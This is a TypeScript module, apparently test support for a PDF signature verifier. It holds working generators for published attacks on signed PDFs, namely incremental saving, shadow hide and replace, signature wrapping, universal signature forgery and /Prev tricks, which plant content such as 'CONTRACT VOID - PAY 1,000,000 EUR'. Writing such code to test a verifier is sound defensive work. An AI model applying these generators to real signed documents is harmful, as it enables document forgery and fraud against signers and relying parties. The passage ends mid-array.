import { execFileSync } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';

/**
 * Generators for the attack classes published against PDF signature validators (Mladenov et al.,
 * "1 Trillion Dollar Refund" 2019: incremental saving, signature wrapping, universal signature
 * forgery; Mainka et al., "Shadow Attacks" 2021: hide, replace, hide-and-replace), plus /Prev and
 * trailer tricks. Each generator takes a signed PDF and returns the manipulated file.
 *
 * The files are read with qpdf (an independent reader), never with the verifier under test, so a
 * reader bug cannot make an attack silently harmless. Updates are written by hand in every
 * cross-reference flavour: a classic table, an xref stream, an object stream, and a hybrid section.
 */

export type XrefFlavour = 'table' | 'stream' | 'objstm' | 'hybrid';

export interface Revision {
  /** New object bodies by number (text after "N 0 obj", before "endobj"). */
  objects?: Map<number, string>;
  /** Entries that point an object number at an existing offset, without writing a body. */
  pointers?: Map<number, number>;
  /** Xref-stream flavours only: entries that point an object number into an existing object stream. */
  compressedPointers?: Map<number, { stream: number; index: number }>;
  /** Object numbers marked free. */
  free?: number[];
  flavour?: XrefFlavour;
  /**
   * Hybrid only: entries of the /XRefStm stream (number → offset). Per ISO 32000-1 §7.5.8.4 they may
   * only supply objects the table lacks; attackers use them to contradict the table.
   */
  hybridStream?: Map<number, number>;
  /** Hybrid only: object numbers the /XRefStm stream marks free (the table says nothing about them). */
  hybridFree?: number[];
  /** /Prev value: a number, 'omit' for none, default the previous startxref. */
  prev?: number | 'omit';
  /** Extra trailer entries, e.g. "/Encrypt null". */
  trailerExtra?: string;
  /** /Root reference override, e.g. "12 0 R". */
  root?: string;
  /** Write the objects but no cross-reference section or trailer. */
  noXref?: boolean;
  /** Value written after the final startxref (default: this revision's own section). */
  startxref?: number;
}

/** Everything a generator needs to know about the target, read by qpdf. */
export interface PdfFacts {
  size: number;
  root: number;
  firstPage: number;
  /** The first page's content stream numbers. */
  contents: number[];
  lastStartxref: number;
  /** Offset of the first "%%EOF" (end of the original revision). */
}

const QPDF_MAX_BUFFER = 256 * 1024 * 1024;

export class QpdfReader {
  private readonly dir = mkdtempSync(path.join(tmpdir(), 'docproc-attacks-'));
  private counter = 0;

  private withFile<T>(pdf: Buffer, run: (file: string) => T): T {
    const file = path.join(this.dir, `f${this.counter++}.bin`);
    writeFileSync(file, pdf);
    try {
      return run(file);
    } finally {
      rmSync(file, { force: true });
    }
  }

  /** Runs qpdf on the file; exit code 3 (warnings, e.g. a repaired xref) counts as success. */
  private run(pdf: Buffer, args: string[], encoding: BufferEncoding): string {
    return this.withFile(pdf, (file) => {
      try {
        return execFileSync('qpdf', [...args, file], { encoding, maxBuffer: QPDF_MAX_BUFFER, stdio: ['ignore', 'pipe', 'pipe'] });
      } catch (err) {
        const e = err as { status?: number; stdout?: string };
        if (e.status !== 3 || e.stdout === undefined) throw err;
        return e.stdout;
      }
    });
  }

  /** `qpdf --json` (v2) of the newest revision. */
  json(pdf: Buffer): QpdfJson {
    return JSON.parse(this.run(pdf, ['--json=2', '--json-stream-data=none'], 'utf8')) as QpdfJson;
  }

  facts(pdf: Buffer): PdfFacts {
    const json = this.json(pdf);
    const objects = json.qpdf[1];
    const trailer = objects.trailer!.value as Record<string, unknown>;
    const page = json.pages[0]!;
    const startxrefs = [...pdf.toString('latin1').matchAll(/startxref\s+(\d+)/g)];
    return {
      size: Number(trailer['/Size']),
      root: refNumber(trailer['/Root']),
      firstPage: refNumber(page.object),
      contents: page.contents.map(refNumber),
      lastStartxref: Number(startxrefs.at(-1)![1]),
    };
  }

  /** The newest revision's body of an object, as qpdf prints it in PDF syntax. */
  show(pdf: Buffer, object: number | 'trailer'): string {
    return this.run(pdf, [`--show-object=${object}`], 'latin1');
  }

  /** A stream's data as qpdf decodes (and decrypts) it. */
  streamData(pdf: Buffer, object: number): string {
    return this.run(pdf, [`--show-object=${object}`, '--filtered-stream-data'], 'latin1');
  }

  /**
   * What the first page shows as qpdf reads it: the page object and every object it reaches (not
   * through /Parent or /P), stream data included, as one string. Two files whose first pages show
   * the same thing give the same string.
   */
  firstPageClosure(pdf: Buffer): string {
    const json = JSON.parse(this.run(pdf, ['--json=2', '--json-stream-data=inline', '--decode-level=none'], 'utf8')) as QpdfJson;
    const objects = json.qpdf[1];
    const seen = new Map<string, unknown>();
    const queue = [json.pages[0]!.object];
    const visit = (value: unknown, key?: string): void => {
      if (key === '/Parent' || key === '/P') return;
      if (typeof value === 'string' && /^\d+ \d+ R$/.test(value)) queue.push(value);
      else if (Array.isArray(value)) value.forEach((item) => visit(item));
      else if (value && typeof value === 'object') for (const [k, v] of Object.entries(value)) visit(v, k);
    };
    for (let ref = queue.shift(); ref !== undefined && seen.size < 10_000; ref = queue.shift()) {
      if (seen.has(ref)) continue;
      const object = objects[`obj:${ref}`] ?? null;
      seen.set(ref, object);
      visit(object);
    }
    return JSON.stringify([...seen]);
  }

  cleanup(): void {
    rmSync(this.dir, { recursive: true, force: true });
  }
}

export interface QpdfJson {
  version: number;
  pages: Array<{ object: string; contents: string[] }>;
  qpdf: [Record<string, unknown>, Record<string, { value?: unknown; stream?: { dict: Record<string, unknown> } }>];
}

const refNumber = (value: unknown): number => {
  const m = /^(\d+) \d+ R$/.exec(String(value));
  if (!m) throw new Error(`not a reference: ${String(value)}`);
  return Number(m[1]);
};

const pad = (n: number, width: number) => String(n).padStart(width, '0');

function beBytes(value: number, width: number): number[] {
  const out: number[] = [];
  for (let i = width - 1; i >= 0; i--) out.push(Math.floor(value / 256 ** i) % 256);
  return out;
}

type Row = { num: number; type: 0 | 1 | 2; a: number; b: number };

/** An xref stream object (uncompressed) holding `rows`, with the trailer entries in its dictionary. */
function xrefStreamObject(num: number, rows: Row[], trailerEntries: string): Buffer {
  const sorted = [...rows].sort((x, y) => x.num - y.num);
  const data = Buffer.from(sorted.flatMap((r) => [r.type, ...beBytes(r.a, 4), ...beBytes(r.b, 2)]));
  const index = sorted.map((r) => `${r.num} 1`).join(' ');
  const head = `${num} 0 obj\n<< /Type /XRef /W [1 4 2] /Index [${index}] ${trailerEntries} /Length ${data.length} >>\nstream\n`;
  return Buffer.concat([Buffer.from(head, 'latin1'), data, Buffer.from('\nendstream\nendobj\n', 'latin1')]);
}

/**
 * Appends one revision to `pdf`. Trailer entries /Root, /Info and /ID are carried over from the newest
 * trailer (as qpdf reads it), /Size grows to cover every number used.
 */
export function appendRevision(pdf: Buffer, reader: QpdfReader, revision: Revision): Buffer {
  const flavour = revision.flavour ?? 'table';
  const trailer = reader.show(pdf, 'trailer');
  const facts = reader.facts(pdf);
  const parts: Buffer[] = [pdf];
  if (pdf[pdf.length - 1] !== 0x0a) parts.push(Buffer.from('\n'));
  let offset = parts.reduce((n, b) => n + b.length, 0);
  const rows: Row[] = [];
  let size = facts.size;
  const grow = (n: number) => (size = Math.max(size, n + 1));

  const objects = [...(revision.objects ?? new Map<number, string>())].sort(([a], [b]) => a - b);
  const packable = flavour === 'objstm' ? objects.filter(([, body]) => !/\bstream\b/.test(body)) : [];
  for (const [num, body] of objects) {
    grow(num);
    if (packable.some(([n]) => n === num)) continue;
    const chunk = Buffer.from(`${num} 0 obj\n${body}\nendobj\n`, 'latin1');
    rows.push({ num, type: 1, a: offset, b: 0 });
    parts.push(chunk);
    offset += chunk.length;
  }
  if (packable.length > 0) {
    const streamNum = size;
    grow(streamNum);
    let header = '';
    let body = '';
    packable.forEach(([num, text], i) => {
      header += `${num} ${body.length} `;
      body += `${text}\n`;
      rows.push({ num, type: 2, a: streamNum, b: i });
    });
    const content = header + '\n' + body;
    const chunk = Buffer.from(`${streamNum} 0 obj\n<< /Type /ObjStm /N ${packable.length} /First ${header.length + 1} /Length ${content.length} >>\nstream\n${content}\nendstream\nendobj\n`, 'latin1');
    rows.push({ num: streamNum, type: 1, a: offset, b: 0 });
    parts.push(chunk);
    offset += chunk.length;
  }
  for (const [num, at] of revision.pointers ?? []) {
    grow(num);
    rows.push({ num, type: 1, a: at, b: 0 });
  }
  for (const [num, { stream, index }] of revision.compressedPointers ?? []) {
    if (flavour !== 'stream' && flavour !== 'objstm') throw new Error('compressed entries need an xref stream');
    grow(num);
    rows.push({ num, type: 2, a: stream, b: index });
  }
  for (const num of revision.free ?? []) rows.push({ num, type: 0, a: 0, b: 65535 });
  if (revision.noXref) {
    parts.push(Buffer.from('%%EOF\n', 'latin1'));
    return Buffer.concat(parts);
  }

  const carried = ['/Info', '/ID'].flatMap((key) => {
    const m = new RegExp(key === '/ID' ? '/ID\\s*\\[[^\\]]*\\]' : `${key}\\s+\\d+\\s+\\d+\\s+R`).exec(trailer);
    return m ? [m[0]] : [];
  });
  const prev = revision.prev === 'omit' ? '' : ` /Prev ${revision.prev ?? facts.lastStartxref}`;
  const root = `/Root ${revision.root ?? `${facts.root} 0 R`}`;
  const entries = (extraSize = 0) => `/Size ${size + extraSize} ${root} ${carried.join(' ')}${prev}${revision.trailerExtra ? ` ${revision.trailerExtra}` : ''}`;

  let sectionAt: number;
  if (flavour === 'stream' || flavour === 'objstm') {
    const xrefNum = size;
    sectionAt = offset;
    rows.push({ num: xrefNum, type: 1, a: offset, b: 0 });
    parts.push(xrefStreamObject(xrefNum, rows, entries(1)));
  } else {
    let hybrid = '';
    if (flavour === 'hybrid') {
      const streamRows: Row[] = [...(revision.hybridStream ?? new Map())].map(([num, at]) => ({ num, type: 1 as const, a: at, b: 0 }));
      for (const num of revision.hybridFree ?? []) streamRows.push({ num, type: 0, a: 0, b: 65535 });
      const streamNum = size;
      grow(streamNum);
      streamRows.push({ num: streamNum, type: 1, a: offset, b: 0 });
      // The table lists the /XRefStm object too, so it is never empty (qpdf rebuilds files whose table is).
      rows.push({ num: streamNum, type: 1, a: offset, b: 0 });
      const chunk = xrefStreamObject(streamNum, streamRows, `/Size ${size}`);
      hybrid = ` /XRefStm ${offset}`;
      parts.push(chunk);
      offset += chunk.length;
    }
    sectionAt = offset;
    let xref = 'xref\n';
    for (const row of [...rows].sort((x, y) => x.num - y.num)) {
      xref += `${row.num} 1\n${row.type === 0 ? `${pad(0, 10)} 65535 f` : `${pad(row.a, 10)} 00000 n`}\r\n`;
    }
    parts.push(Buffer.from(`${xref}trailer\n<< ${entries()}${hybrid} >>\n`, 'latin1'));
  }
  parts.push(Buffer.from(`startxref\n${revision.startxref ?? sectionAt}\n%%EOF\n`, 'latin1'));
  return Buffer.concat(parts);
}

const VOID_TEXT = 'BT /F9 36 Tf 72 400 Td (CONTRACT VOID - PAY 1,000,000 EUR) Tj ET';
const voidStream = () => `<< /Length ${VOID_TEXT.length} >>\nstream\n${VOID_TEXT}\nendstream`;
const HELVETICA = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>';

/** Tokens of PDF syntax with their spans: enough to find a dictionary's top-level entries. */
function tokens(text: string): Array<{ t: string; start: number; end: number }> {
  const out: Array<{ t: string; start: number; end: number }> = [];
  let i = 0;
  const delimiter = (c: string) => /[\s()<>[\]{}/%]/.test(c);
  while (i < text.length) {
    const c = text[i]!;
    if (/\s/.test(c)) i++;
    else if (text.startsWith('<<', i) || text.startsWith('>>', i)) out.push({ t: text.slice(i, i + 2), start: i, end: (i += 2) });
    else if (c === '[' || c === ']') out.push({ t: c, start: i, end: ++i });
    else if (c === '(') {
      const start = i;
      let depth = 0;
      for (; i < text.length; i++) {
        if (text[i] === '\\') i++;
        else if (text[i] === '(') depth++;
        else if (text[i] === ')' && --depth === 0) break;
      }
      out.push({ t: '(', start, end: ++i });
    } else if (c === '<') {
      const start = i;
      i = text.indexOf('>', i) + 1 || text.length;
      out.push({ t: '<', start, end: i });
    } else {
      const start = i++;
      while (i < text.length && !delimiter(text[i]!)) i++;
      out.push({ t: text.slice(start, i), start, end: i });
    }
  }
  return out;
}

/** A dictionary's text with one top-level key's value replaced (or the key added). */
export function withKey(dict: string, key: string, value: string): string {
  const body = dict.trim();
  const toks = tokens(body);
  let depth = 0;
  let expectKey = true;
  for (let k = 0; k < toks.length; k++) {
    const tok = toks[k]!;
    if (tok.t === '<<' || tok.t === '[') {
      if (depth === 1 && !expectKey) {
        // a nested value at the top level: skip to its end
        let inner = 0;
        for (; k < toks.length; k++) {
          if (toks[k]!.t === '<<' || toks[k]!.t === '[') inner++;
          else if ((toks[k]!.t === '>>' || toks[k]!.t === ']') && --inner === 0) break;
        }
        expectKey = true;
        continue;
      }
      depth++;
      continue;
    }
    if (tok.t === '>>' || tok.t === ']') {
      depth--;
      continue;
    }
    if (depth !== 1) continue;
    if (expectKey) {
      if (tok.t === `/${key}`) {
        const first = toks[k + 1]!;
        let last = first;
        if (first.t === '<<' || first.t === '[') {
          let inner = 0;
          for (let j = k + 1; j < toks.length; j++) {
            if (toks[j]!.t === '<<' || toks[j]!.t === '[') inner++;
            else if ((toks[j]!.t === '>>' || toks[j]!.t === ']') && --inner === 0) {
              last = toks[j]!;
              break;
            }
          }
        } else if (toks[k + 3]?.t === 'R' && /^\d+$/.test(first.t)) last = toks[k + 3]!;
        return body.slice(0, first.start) + value + body.slice(last.end);
      }
      expectKey = false;
    } else {
      if (/^\d+$/.test(tok.t) && toks[k + 2]?.t === 'R') k += 2;
      expectKey = true;
    }
  }
  return body.replace(/>>\s*$/, ` /${key} ${value} >>`);
}

export interface Attack {
  /** Class as published, e.g. "incremental saving attack". */
  family: string;
  name: string;
  apply(pdf: Buffer, reader: QpdfReader): Buffer;
  /**
   * False when a reader that follows the cross-reference data (qpdf) shows the same first page after
   * the attack (bytes outside any section, a startxref pointing back): such files fool only readers
   * that scan, and must still not verify.
   */
  changesFirstPageForQpdf?: false;
}

/** Page with its contents replaced by the "CONTRACT VOID" stream (object `streamNum`) and a font for it. */
function voidPage(pdf: Buffer, reader: QpdfReader, facts: PdfFacts, streamNum: number, fontNum: number): string {
  const page = reader.show(pdf, facts.firstPage);
  return withKey(withKey(page, 'Contents', `${streamNum} 0 R`), 'Resources', `<< /Font << /F9 ${fontNum} 0 R >> >>`);
}

function incrementalSaving(flavour: XrefFlavour): Attack {
  return {
    family: 'incremental saving attack',
    name: `page content replaced in an update (${flavour})`,
    apply(pdf, reader) {
      const facts = reader.facts(pdf);
      const [stream, font] = [facts.size, facts.size + 1];
      return appendRevision(pdf, reader, {
        flavour,
        objects: new Map([
          [stream, voidStream()],
          [font, HELVETICA],
          [facts.firstPage, voidPage(pdf, reader, facts, stream, font)],
        ]),
      });
    },
  };
}

/**
 * Hide-and-replace: a shadow page body (new content and font) is appended without any xref entry, as
 * if hidden in the signed revision; then an xref-only update points the page object at it. With
 * `objstm` the shadow page and font sit in an object stream and the update's xref stream points
 * into it (type 2 entries).
 */
function hideAndReplaceByPointers(flavour: 'table' | 'stream' | 'objstm'): Attack {
  const where = { table: 'an xref table', stream: 'an xref stream', objstm: 'an xref stream into an object stream' }[flavour];
  return {
    family: 'shadow attack: hide-and-replace',
    name: `xref-only update pointing the page at a shadow page body already in the file (${where})`,
    apply(pdf, reader) {
      const facts = reader.facts(pdf);
      const [stream, font] = [facts.size, facts.size + 1];
      const shadowPage = voidPage(pdf, reader, facts, stream, font);
      const shadow = new Map([[stream, voidStream()], [font, HELVETICA], [facts.firstPage, shadowPage]]);
      const withShadow = appendRevision(pdf, reader, { noXref: true, flavour: flavour === 'objstm' ? 'objstm' : 'table', objects: shadow });
      const text = withShadow.toString('latin1');
      const at = (num: number) => text.lastIndexOf(`\n${num} 0 obj`) + 1;
      if (flavour !== 'objstm') {
        const pointers = new Map([[stream, at(stream)], [font, at(font)], [facts.firstPage, at(facts.firstPage)]]);
        return appendRevision(withShadow, reader, { flavour, pointers });
      }
      const objStm = /\n(\d+) 0 obj\n<< \/Type \/ObjStm \/N \d+ \/First \d+ \/Length \d+ >>\nstream\n([^\n]*)\n/g;
      const last = [...text.matchAll(objStm)].at(-1)!;
      const members = last[2]!.trim().split(/\s+/).filter((_, i) => i % 2 === 0).map(Number);
      const objStmNum = Number(last[1]);
      const compressedPointers = new Map(members.map((num, index) => [num, { stream: objStmNum, index }]));
      return appendRevision(withShadow, reader, {
        flavour: 'stream',
        pointers: new Map([[stream, at(stream)], [objStmNum, last.index! + 1]]),
        compressedPointers,
      });
    },
  };
}

export const ATTACKS: Attack[] = [
  incrementalSaving('table'),
  incrementalSaving('stream'),
  incrementalSaving('objstm'),
  incrementalSaving('hybrid'),
  {
    family: 'incremental saving attack',
    name: 'content stream redefined with the same number',
    apply(pdf, reader) {
      const facts = reader.facts(pdf);
      return appendRevision(pdf, reader, { objects: new Map([[facts.contents[0]!, voidStream()]]) });
    },
  },
  {
    family: 'incremental saving attack',
    name: 'objects appended without a cross-reference section',
    changesFirstPageForQpdf: false,
    apply(pdf, reader) {
      const facts = reader.facts(pdf);
      return appendRevision(pdf, reader, { noXref: true, objects: new Map([[facts.contents[0]!, voidStream()]]) });
    },
  },
  {
    family: 'incremental saving attack',
    name: 'a new catalog and page tree through the trailer /Root',
    apply(pdf, reader) {
      const facts = reader.facts(pdf);
      const [catalog, pages, page, stream, font] = [0, 1, 2, 3, 4].map((i) => facts.size + i) as [number, number, number, number, number];
      const oldCatalog = reader.show(pdf, facts.root);
      return appendRevision(pdf, reader, {
        root: `${catalog} 0 R`,
        objects: new Map([
          [catalog, withKey(oldCatalog, 'Pages', `${pages} 0 R`)],
          [pages, `<< /Type /Pages /Kids [${page} 0 R] /Count 1 >>`],
          [page, `<< /Type /Page /Parent ${pages} 0 R /MediaBox [0 0 612 792] /Contents ${stream} 0 R /Resources << /Font << /F9 ${font} 0 R >> >> >>`],
          [stream, voidStream()],
          [font, HELVETICA],
        ]),
      });
    },
  },
  {
    family: 'shadow attack: hide',
    name: 'page content marked free by an xref-only update',
    apply(pdf, reader) {
      const facts = reader.facts(pdf);
      return appendRevision(pdf, reader, { free: [facts.contents[0]!] });
    },
  },
  {
    family: 'shadow attack: hide',
    name: 'page content marked free in an xref stream',
    apply(pdf, reader) {
      const facts = reader.facts(pdf);
      return appendRevision(pdf, reader, { flavour: 'stream', free: [facts.contents[0]!] });
    },
  },
  {
    family: 'shadow attack: hide',
    name: 'page content marked free by the /XRefStm of a hybrid section (the table silent)',
    apply(pdf, reader) {
      const facts = reader.facts(pdf);
      return appendRevision(pdf, reader, { flavour: 'hybrid', hybridFree: [facts.contents[0]!] });
    },
  },
  ...(['table', 'stream', 'objstm', 'hybrid'] as XrefFlavour[]).map(
    (flavour): Attack => ({
      family: 'shadow attack: hide',
      name: `page content hidden: the page redefined with empty /Contents (${flavour})`,
      apply(pdf, reader) {
        const facts = reader.facts(pdf);
        return appendRevision(pdf, reader, { flavour, objects: new Map([[facts.firstPage, withKey(reader.show(pdf, facts.firstPage), 'Contents', '[]')]]) });
      },
    }),
  ),
  ...(['table', 'stream', 'objstm', 'hybrid'] as XrefFlavour[]).map(
    (flavour): Attack => ({
      family: 'shadow attack: replace',
      name: `page resources redefined: font swapped (${flavour})`,
      apply(pdf, reader) {
        const facts = reader.facts(pdf);
        const font = facts.size;
        const page = reader.show(pdf, facts.firstPage);
        const fontName = /\/Font\s*<<\s*\/([^\s/]+)/.exec(page)?.[1] ?? 'F1';
        return appendRevision(pdf, reader, {
          flavour,
          objects: new Map([
            [font, '<< /Type /Font /Subtype /Type1 /BaseFont /ZapfDingbats >>'],
            [facts.firstPage, withKey(page, 'Resources', `<< /Font << /${fontName} ${font} 0 R >> >>`)],
          ]),
        });
      },
    }),
  ),
  hideAndReplaceByPointers('table'),
  hideAndReplaceByPointers('stream'),
  hideAndReplaceByPointers('objstm'),
  {
    family: 'shadow attack: hide-and-replace',
    name: 'hybrid section: the table points at new content, /XRefStm at the old',
    apply(pdf, reader) {
      const facts = reader.facts(pdf);
      const contents = facts.contents[0]!;
      const text = pdf.toString('latin1');
      const original = text.lastIndexOf(`\n${contents} 0 obj`) + 1;
      return appendRevision(pdf, reader, {
        flavour: 'hybrid',
        objects: new Map([[contents, voidStream()]]),
        hybridStream: original > 0 ? new Map([[contents, original]]) : new Map(),
      });
    },
  },
  {
    family: '/Prev and trailer tricks',
    name: '/Prev skips the signed revision',
    apply(pdf, reader) {
      const facts = reader.facts(pdf);
      const first = Number(/startxref\s+(\d+)/.exec(pdf.toString('latin1'))![1]);
      return appendRevision(pdf, reader, { prev: first, objects: new Map([[facts.contents[0]!, voidStream()]]) });
    },
  },
  {
    family: '/Prev and trailer tricks',
    name: '/Prev 0',
    apply(pdf, reader) {
      const facts = reader.facts(pdf);
      return appendRevision(pdf, reader, { prev: 0, objects: new Map([[facts.contents[0]!, voidStream()]]) });
    },
  },
  {
    family: '/Prev and trailer tricks',
    name: 'no /Prev at all',
    apply(pdf, reader) {
      const facts = reader.facts(pdf);
      return appendRevision(pdf, reader, { prev: 'omit', objects: new Map([[facts.contents[0]!, voidStream()]]) });
    },
  },
  {
    family: '/Prev and trailer tricks',
    name: '/Encrypt null in the new trailer',
    apply(pdf, reader) {
      const facts = reader.facts(pdf);
      return appendRevision(pdf, reader, { trailerExtra: '/Encrypt null', objects: new Map([[facts.contents[0]!, voidStream()]]) });
    },
  },
  {
    family: '/Prev and trailer tricks',
    name: 'final startxref points back at the signed revision',
    changesFirstPageForQpdf: false,
    apply(pdf, reader) {
      const facts = reader.facts(pdf);
      return appendRevision(pdf, reader, { startxref: facts.lastStartxref, objects: new Map([[facts.contents[0]!, voidStream()]]) });
    },
  },
  {
    family: 'signature wrapping',
    name: 'second signed range moved behind injected objects (/ByteRange rewritten)',
    changesFirstPageForQpdf: false,
    apply(pdf) {
      return wrapSignature(pdf, 999_990);
    },
  },
  {
    family: 'signature wrapping',
    name: 'the injected bytes redefine the page content (readers that rebuild the shifted xref show it)',
    apply(pdf, reader) {
      return wrapSignature(pdf, reader.facts(pdf).contents[0]!);
    },
  },
];

/** The last /ByteRange: its values and where its "[...]" text lies. */
export function lastByteRange(pdf: Buffer): { values: number[]; start: number; end: number } {
  const text = pdf.toString('latin1');
  const at = text.lastIndexOf('/ByteRange');
  const m = /\[\s*(-?\d+)\s+(-?\d+)\s+(-?\d+)\s+(-?\d+)\s*\]/.exec(text.slice(at));
  if (!m) throw new Error('no /ByteRange');
  const start = at + m.index;
  return { values: m.slice(1, 5).map(Number), start, end: start + m[0].length };
}

/**
 * Signature wrapping: keep the signed bytes, but insert a malicious revision between /Contents and
 * the second signed range and rewrite /ByteRange (same width) so it still names the moved bytes.
 */
function wrapSignature(pdf: Buffer, injectedNum: number): Buffer {
  const { values, start, end } = lastByteRange(pdf);
  const [, len1, off2, len2] = values as [number, number, number, number];
  const injected = Buffer.from(`\n${injectedNum} 0 obj\n${voidStream()}\nendobj\n`, 'latin1');
  const moved = off2 + injected.length;
  const text = `[0 ${len1} ${moved} ${len2}]`;
  const width = end - start;
  if (text.length > width) throw new Error('no room to rewrite /ByteRange');
  const out = Buffer.concat([pdf.subarray(0, off2), injected, pdf.subarray(off2)]);
  out.write(text.padEnd(width, ' '), start, 'latin1');
  return out;
}

/**
 * Universal signature forgery: a new signature field whose signature dictionary has a missing,
 * empty or nonsensical /Contents or /ByteRange, added in an update.
 */
export const FORGERY_VARIANTS: Array<{ name: string; entries: (pdf: Buffer) => string }> = [
  { name: 'no /Contents, no /ByteRange', entries: () => '' },
  { name: '/Contents null, /ByteRange null', entries: () => '/Contents null /ByteRange null' },
  { name: '/Contents <> and /ByteRange []', entries: () => '/Contents <> /ByteRange []' },
  { name: '/Contents of zeros, /ByteRange [0 0 0 0]', entries: () => `/Contents <${'00'.repeat(64)}> /ByteRange [0 0 0 0]` },
  { name: 'negative /ByteRange', entries: () => '/Contents <3003020100> /ByteRange [0 -1 -1 -1]' },
  { name: '/ByteRange past the end of the file', entries: () => '/Contents <3003020100> /ByteRange [0 10 99999999 10]' },
  {
    name: 'a valid CMS copied from another signature, /ByteRange of that signature',
    entries: (pdf) => {
      const { values } = lastByteRange(pdf);
      const text = pdf.toString('latin1');
      const contents = /\/Contents\s*<([0-9A-Fa-f]+)>/g;
      let last: string | undefined;
      for (let m = contents.exec(text); m; m = contents.exec(text)) last = m[1];
      return `/Contents <${last ?? ''}> /ByteRange [${values.join(' ')}]`;
    },
  },
];

export function forgedSignature(variant: (typeof FORGERY_VARIANTS)[number]): Attack {
  return {
    family: 'universal signature forgery',
    name: variant.name,
    apply(pdf, reader) {
      const facts = reader.facts(pdf);
      const [field, sig] = [facts.size, facts.size + 1];
      const catalog = reader.show(pdf, facts.root);
      const acroFormRef = /\/AcroForm\s+(\d+)\s+\d+\s+R/.exec(catalog);
      const acroForm = acroFormRef ? reader.show(pdf, Number(acroFormRef[1])) : undefined;
      const fieldsText = acroForm ? /\/Fields\s*\[([^\]]*)\]/.exec(acroForm)?.[1] ?? '' : /\/AcroForm\s*<<[^]*?\/Fields\s*\[([^\]]*)\]/.exec(catalog)?.[1] ?? '';
      const newForm = `<< /Fields [${fieldsText} ${field} 0 R] /SigFlags 3 >>`;
      const page = reader.show(pdf, facts.firstPage);
      const annots = /\/Annots\s*\[([^\]]*)\]/.exec(page)?.[1] ?? '';
      const objects = new Map<number, string>([
        [sig, `<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /adbe.pkcs7.detached ${variant.entries(pdf)} /M (D:20240101120000Z) >>`],
        [field, `<< /FT /Sig /T (Forged${field}) /Type /Annot /Subtype /Widget /Rect [0 0 0 0] /P ${facts.firstPage} 0 R /F 132 /V ${sig} 0 R >>`],
        [facts.firstPage, withKey(page, 'Annots', `[${annots} ${field} 0 R]`)],
      ]);
      if (acroFormRef) objects.set(Number(acroFormRef[1]), newForm);
      else objects.set(facts.root, withKey(catalog, 'AcroForm', newForm));
      return appendRevision(pdf, reader, { objects });
    },
  };
}

export const ALL_ATTACKS: Attack[] = [...ATTACKS, ...FORGERY_VARIANTS.map(forgedSignature)];

/**
 * Shadow attacks whose victim document is prepared by the attacker before it is signed (Mainka et
 * al.: the signer signs a document holding hidden material): `prepare` runs on the unsigned PDF,
 * the victim signs it, `apply` runs on the signed result.
 */
export interface PreparedAttack {
  family: string;
  name: string;
  prepare(unsigned: Buffer, reader: QpdfReader): Buffer;
  apply(signed: Buffer, reader: QpdfReader): Buffer;
  /** What the failed signature's errors must say. */
  expectedError: RegExp;
}

/** Object number far above anything the signing step allocates, left undefined until after signing. */
const SHADOW_NUM = 90_000;

const OVERLAY = '1 1 1 rg 0 0 10000 10000 re f';

/** The unsigned page with a white overlay (object `num`) drawn over its content. */
function withOverlay(unsigned: Buffer, reader: QpdfReader): { pdf: Buffer; overlay: number } {
  const facts = reader.facts(unsigned);
  const page = reader.show(unsigned, facts.firstPage);
  const overlay = facts.size;
  const contents = [...facts.contents.map((n) => `${n} 0 R`), `${overlay} 0 R`].join(' ');
  const pdf = appendRevision(unsigned, reader, {
    objects: new Map([
      [overlay, `<< /Length ${OVERLAY.length} >>\nstream\n${OVERLAY}\nendstream`],
      [facts.firstPage, withKey(page, 'Contents', `[${contents}]`)],
    ]),
  });
  return { pdf, overlay };
}

/** The overlay's number: the last content stream of the first page whose data is the overlay. */
function overlayNumber(signed: Buffer, reader: QpdfReader): number {
  const facts = reader.facts(signed);
  const found = facts.contents.find((n) => reader.show(signed, n).includes('/Length ' + OVERLAY.length));
  if (found === undefined) throw new Error('the prepared overlay is gone');
  return found;
}

export const PREPARED_ATTACKS: PreparedAttack[] = [
  ...(['table', 'stream', 'hybrid'] as const).map(
    (flavour): PreparedAttack => ({
      family: 'shadow attack: hide',
      name: `a white overlay the signer saw over the content is removed after signing: marked free (${flavour === 'hybrid' ? 'hybrid /XRefStm' : `xref ${flavour}`})`,
      prepare: (unsigned, reader) => withOverlay(unsigned, reader).pdf,
      apply(signed, reader) {
        const overlay = overlayNumber(signed, reader);
        return appendRevision(signed, reader, flavour === 'hybrid' ? { flavour, hybridFree: [overlay] } : { flavour, free: [overlay] });
      },
      expectedError: /./,
    }),
  ),
  {
    family: 'shadow attack: hide',
    name: 'a white overlay the signer saw over the content is emptied after signing (object stream cannot hold streams: redefined as an empty array)',
    prepare: (unsigned, reader) => withOverlay(unsigned, reader).pdf,
    apply(signed, reader) {
      return appendRevision(signed, reader, { flavour: 'objstm', objects: new Map([[overlayNumber(signed, reader), '[]']]) });
    },
    expectedError: /./,
  },
  {
    family: 'shadow attack: hide-and-replace',
    name: 'page /Contents references an object that does not exist when signed; it is defined after signing',
    prepare(unsigned, reader) {
      const facts = reader.facts(unsigned);
      const page = reader.show(unsigned, facts.firstPage);
      const contents = [...facts.contents.map((n) => `${n} 0 R`), `${SHADOW_NUM} 0 R`].join(' ');
      return appendRevision(unsigned, reader, { objects: new Map([[facts.firstPage, withKey(page, 'Contents', `[${contents}]`)]]) });
    },
    apply(signed, reader) {
      return appendRevision(signed, reader, { objects: new Map([[SHADOW_NUM, voidStream()]]) });
    },
    expectedError: /absent when it was signed/,
  },
  {
    family: 'shadow attack: replace',
    name: 'a font the page names but the document lacks when signed is defined after signing',
    prepare(unsigned, reader) {
      const facts = reader.facts(unsigned);
      const page = reader.show(unsigned, facts.firstPage);
      const fonts = /\/Font\s*<<([^>]*)>>/.exec(page)?.[1] ?? '';
      return appendRevision(unsigned, reader, { objects: new Map([[facts.firstPage, withKey(page, 'Resources', `<< /Font << ${fonts} /F9 ${SHADOW_NUM} 0 R >> >>`)]]) });
    },
    apply(signed, reader) {
      return appendRevision(signed, reader, { objects: new Map([[SHADOW_NUM, HELVETICA]]) });
    },
    expectedError: /absent when it was signed/,
  },
  {
    family: 'shadow attack: replace',
    name: 'the missing font is defined after signing inside an object stream',
    prepare(unsigned, reader) {
      return PREPARED_ATTACKS.find((a) => a.name.startsWith('a font the page names'))!.prepare(unsigned, reader);
    },
    apply(signed, reader) {
      return appendRevision(signed, reader, { flavour: 'objstm', objects: new Map([[SHADOW_NUM, HELVETICA]]) });
    },
